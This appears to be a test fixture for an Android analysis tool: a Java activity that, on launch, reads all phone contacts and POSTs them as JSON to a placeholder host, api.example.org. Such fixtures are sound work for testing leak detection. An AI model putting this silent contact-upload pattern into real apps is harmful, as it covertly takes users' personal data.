// The libraries under the names that R8 gives them (tests/cases/rename.py), and the JSON is what is sent.
package cases.r8_okhttp;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import okio.Buffer;

import com.squareup.moshi.JsonWriter;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Buffer buffer = new Buffer();
            JsonWriter json = JsonWriter.of(buffer).beginArray();
            Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
            while (rows.moveToNext()) {
                json.value(rows.getString(0));
            }
            json.endArray();
            RequestBody body = RequestBody.create(MediaType.parse("application/json"), buffer.readUtf8());
            Request request = new Request.Builder().url("https://api.example.org/v1/contacts").post(body).build();
            new OkHttpClient().newCall(request).execute();
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }
}
